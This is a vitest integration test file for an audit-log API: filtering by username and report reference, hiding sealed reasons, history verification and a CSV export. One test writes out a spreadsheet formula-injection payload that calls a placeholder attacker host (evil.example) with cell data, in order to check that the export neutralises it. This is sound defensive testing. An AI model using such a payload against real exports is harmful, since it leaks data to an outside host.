/**
 * The auditor's reading of the log over the API: filters by username and by
 * report reference (resolved server-side; an unknown one is an error against
 * its field, never an empty page), entries in words (names and references,
 * no sealed reasons or keyed hashes), history verification by reference, and
 * the CSV export: the table's columns, quoted and formula-guarded, no report
 * content, and itself recorded in the log.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bootApp, type TestApp } from '../support/app.js';
import { createStaff } from '../support/factories.js';
import { hotlineCall } from '../support/payloads.js';
import { Q, codeOf, findReport, recordCall, triageDirectly } from '../support/desk.js';

let app: TestApp;
type Staff = Awaited<ReturnType<typeof createStaff>>;
let auditor: Staff;
let handler: Staff;
let supervisor: Staff;
let reportId: string;
let reference: string;

const LOG = `query($username: String, $reference: String, $action: String, $first: Int) {
  auditLog(username: $username, reference: $reference, action: $action, first: $first) {
    entries { seq action actionLabel actorLabel actorTypeLabel targetLabel targetId actorId outcome facts { label value } }
    hasNextPage
  }
}`;
const EXPORT = `mutation($username: String, $reference: String, $action: String) {
  exportAuditLog(username: $username, reference: $reference, action: $action) { filename csv rows truncated }
}`;
const VERIFY = `query($reference: String!) { verifyReportHistoryByReference(reference: $reference) { valid length brokenAt } }`;

type Entry = { seq: number; action: string; outcome: string; actionLabel: string; actorLabel: string; actorTypeLabel: string; targetLabel: string | null; targetId: string | null; actorId: string | null; facts: { label: string; value: string }[] };

beforeAll(async () => {
  app = await bootApp();
  auditor = await createStaff(app, 'AUDITOR');
  handler = await createStaff(app, 'CALL_HANDLER');
  supervisor = await createStaff(app, 'SUPERVISOR');
  reportId = await recordCall(app, handler.token, 4);
  await triageDirectly(app, reportId, 'SO12', 'P3');
  reference = (await findReport(app, reportId)).reference;
  const reveal = await app.gql(Q.reveal, { id: reportId, reason: 'Officer safety check before a visit' }, supervisor.token);
  expect(reveal.errors).toBeUndefined();
});
afterAll(() => app?.close());

describe('the audit log for auditors, by what people know', () => {
  it('finds a report\'s entries by its reference, in words, naming people and the report, with no sealed reason', async () => {
    const res = await app.gql(LOG, { reference: reference.toLowerCase() }, auditor.token);
    expect(res.errors).toBeUndefined();
    const entries: Entry[] = res.data.auditLog.entries;
    expect(entries.map((e) => e.action)).toEqual(expect.arrayContaining(['report.create', 'report.reveal_caller']));
    expect(entries.every((e) => e.targetId === reportId && e.targetLabel === `Report ${reference}`)).toBe(true);

    const created = entries.find((e) => e.action === 'report.create')!;
    expect(created).toMatchObject({ actionLabel: 'Report recorded', actorLabel: handler.username, actorTypeLabel: 'Staff' });
    expect(created.facts).toEqual(expect.arrayContaining([{ label: 'Source', value: 'Hotline call' }]));

    const reveal = entries.find((e) => e.action === 'report.reveal_caller')!;
    expect(reveal).toMatchObject({ actionLabel: "Caller's identity revealed", actorLabel: supervisor.username });
    expect(reveal.facts).toEqual(expect.arrayContaining([{ label: 'Desk', value: 'SO12' }, { label: 'Parts read', value: 'Caller' }]));
    // The stored entry holds the reason sealed and a keyed hash of it: neither is shown, nor any detail key.
    const stored = (await app.deps.services.audit.query({ action: 'report.reveal_caller', targetId: reportId }, { first: 1 })).entries[0]!;
    expect(typeof stored.details.reasonSealed).toBe('string');
    const shown = JSON.stringify(reveal);
    expect(shown).not.toContain(stored.details.reasonSealed as string);
    expect(shown).not.toContain(stored.details.reasonMac as string);
    expect(reveal.facts.map((f) => f.label)).not.toEqual(expect.arrayContaining(['reasonSealed', 'Reason sealed', 'Reason mac']));
  });

  it("finds a person's entries by username: what they did, and their failed sign-ins", async () => {
    await expect(app.deps.services.auth.login(handler.username, 'not the password at all', 'ip-auditor-test')).rejects.toThrow();
    const res = await app.gql(LOG, { username: handler.username.toUpperCase(), first: 100 }, auditor.token);
    expect(res.errors).toBeUndefined();
    const entries: Entry[] = res.data.auditLog.entries;
    const actions = entries.map((e) => e.action);
    expect(actions).toEqual(expect.arrayContaining(['auth.login', 'report.create', 'admin.user_create']));
    // (Their first sign-in, choosing their own password, is a failed sign-in too: `password_change_needed`.)
    const failed = entries.find((e) => e.action === 'auth.login' && e.outcome === 'failure' && e.facts.some((f: { value: string }) => f.value === 'Bad password'))!;
    expect(failed.facts).toEqual(expect.arrayContaining([{ label: 'Username', value: handler.username }, { label: 'Reason', value: 'Bad password' }]));
    expect(failed.actorLabel).toBe(handler.username);
    // Everything is theirs or about their account.
    for (const e of entries) expect(e.actorLabel === handler.username || e.targetLabel === `User ${handler.username}`).toBe(true);
    // Nobody else's entry comes along.
    expect(entries.some((e) => e.actorLabel === supervisor.username)).toBe(false);
  });

  it('says plainly when a username or reference names nothing, against its field', async () => {
    const who = await app.gql(LOG, { username: 'nobody-by-this-name' }, auditor.token);
    expect(who.data).toBeNull();
    expect(who.errors![0]).toMatchObject({ message: 'No account has this username', extensions: { code: 'BAD_USER_INPUT', path: ['username'] } });

    const unknown = await app.gql(LOG, { reference: 'ATH-1999-999999' }, auditor.token);
    expect(unknown.errors![0]).toMatchObject({ message: 'No report has this reference', extensions: { code: 'BAD_USER_INPUT', path: ['reference'] } });

    const malformed = await app.gql(LOG, { reference: 'not a reference' }, auditor.token);
    expect(malformed.errors![0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', path: ['reference'] } });
    expect(malformed.errors![0]!.message).toMatch(/like ATH-/);
  });

  it("still finds an erased report's entries by its reference, through the erase entry", async () => {
    const id = await recordCall(app, handler.token, 7);
    await triageDirectly(app, id, 'SO13', 'P4');
    const ref = (await findReport(app, id)).reference;
    const erased = await app.gql(Q.erase, { id, reason: 'Malicious hoax, erasure approved by the DPO' }, supervisor.token);
    expect(erased.errors).toBeUndefined();
    expect(await app.deps.reports.search.idOfReference(ref)).toBeNull(); // report_refs no longer holds it
    const res = await app.gql(LOG, { reference: ref }, auditor.token);
    expect(res.errors).toBeUndefined();
    const entries: Entry[] = res.data.auditLog.entries;
    expect(entries.map((e) => e.action)).toEqual(expect.arrayContaining(['report.create', 'report.erase']));
    expect(entries.every((e) => e.targetId === id && e.targetLabel === `Report ${ref}`)).toBe(true);
    expect(entries.find((e) => e.action === 'report.erase')).toMatchObject({ actionLabel: 'Report erased', actorLabel: supervisor.username });
  });

  it("verifies a report's history by its reference, and says when the reference names no report", async () => {
    const ok = await app.gql(VERIFY, { reference: ` ${reference.toLowerCase()} ` }, auditor.token);
    expect(ok.errors).toBeUndefined();
    expect(ok.data.verifyReportHistoryByReference).toMatchObject({ valid: true, brokenAt: null });
    expect(ok.data.verifyReportHistoryByReference.length).toBeGreaterThanOrEqual(2);
    const recorded = await app.gql(LOG, { reference, action: 'report.verify_history' }, auditor.token);
    expect(recorded.data.auditLog.entries[0]).toMatchObject({ actorLabel: auditor.username, targetLabel: `Report ${reference}` });

    const missing = await app.gql(VERIFY, { reference: 'ATH-1999-999998' }, auditor.token);
    expect(missing.errors![0]).toMatchObject({ message: 'No report has this reference', extensions: { code: 'NOT_FOUND', path: ['reference'] } });
    expect(codeOf(await app.gql(VERIFY, { reference: 'x' }, auditor.token))).toBe('BAD_USER_INPUT');
    // Call handlers verify nothing.
    expect(codeOf(await app.gql(VERIFY, { reference }, handler.token))).toBe('FORBIDDEN');
  });
});

describe('the CSV export of a filtered view', () => {
  it("holds the table's columns for the filtered entries, no report content, and is itself in the log", async () => {
    const shown: Entry[] = (await app.gql(LOG, { reference, first: 500 }, auditor.token)).data.auditLog.entries;
    const res = await app.gql(EXPORT, { reference }, auditor.token);
    expect(res.errors).toBeUndefined();
    const { filename, csv, rows, truncated } = res.data.exportAuditLog;
    expect(filename).toMatch(/^audit-log-\d{8}-\d{4}\.csv$/);
    expect(truncated).toBe(false);
    expect(rows).toBe(shown.length);
    const lines = csv.trimEnd().split('\r\n');
    expect(lines[0]).toBe('"Entry","Time (UTC)","Action","Outcome","Actor","Actor type","Target","Details"');
    expect(lines).toHaveLength(rows + 1);
    // Newest first, as on screen, one line per entry.
    expect(lines.slice(1).map((l: string) => Number(/^"(\d+)"/.exec(l)![1]))).toEqual(shown.map((e) => e.seq));
    const created = lines.find((l: string) => l.includes('"Report recorded"'))!;
    expect(created).toMatch(new RegExp(`^"\\d+","\\d{2}/\\d{2}/\\d{4} \\d{2}:\\d{2} UTC","Report recorded","Success","${handler.username}","Staff","Report ${reference}","[^"]*Source: Hotline call`));
    // No report content, no internal ids of people or the report.
    expect(csv).not.toContain(hotlineCall(4).narrative.slice(0, 30));
    expect(csv).not.toContain(reportId);
    expect(csv).not.toContain(handler.user.id);

    // The export is recorded, with its filters and row count, naming the auditor.
    const logged: Entry[] = (await app.gql(LOG, { action: 'audit.export', username: auditor.username }, auditor.token)).data.auditLog.entries;
    expect(logged[0]).toMatchObject({ actionLabel: 'Audit log exported', actorLabel: auditor.username, targetLabel: 'Audit log' });
    expect(logged[0]!.facts).toEqual(expect.arrayContaining([{ label: 'Rows', value: String(rows) }, { label: 'Cut short', value: 'No' }]));
    expect(logged[0]!.facts.find((f) => f.label === 'Filters')!.value).toContain(`Reference: ${reference}`);
  });

  it('quotes cells and makes text that a spreadsheet would run as a formula inert', async () => {
    const reason = '=HYPERLINK("http://evil.example/?q="&A1,"click"), then "quoted"';
    const set = await app.gql('mutation($reason: String!) { setThreatLevel(level: SEVERE, reason: $reason) { level } }', { reason }, supervisor.token);
    expect(set.errors).toBeUndefined();
    const res = await app.gql(EXPORT, { action: 'threat_level.set', username: supervisor.username }, auditor.token);
    expect(res.errors).toBeUndefined();
    const line = res.data.exportAuditLog.csv.split('\r\n')[1] as string;
    // Inside its quoted cell the reason keeps its text, quotes doubled; the Details cell starts with a label, and
    // a cell of its own starting with = would get an apostrophe (checked on the cell function in the unit test).
    expect(line).toContain(`Reason: ${reason.replace(/"/g, '""')}`);
    expect(line.split('","').every((cell) => !/^"?[=+\-@]/.test(cell))).toBe(true);
  });

  it('is for auditors only, and an unknown filter fails the export as it fails the list', async () => {
    expect(codeOf(await app.gql(EXPORT, {}, supervisor.token))).toBe('FORBIDDEN');
    const bad = await app.gql(EXPORT, { username: 'nobody-by-this-name' }, auditor.token);
    expect(bad.errors![0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', path: ['username'] } });
  });
});
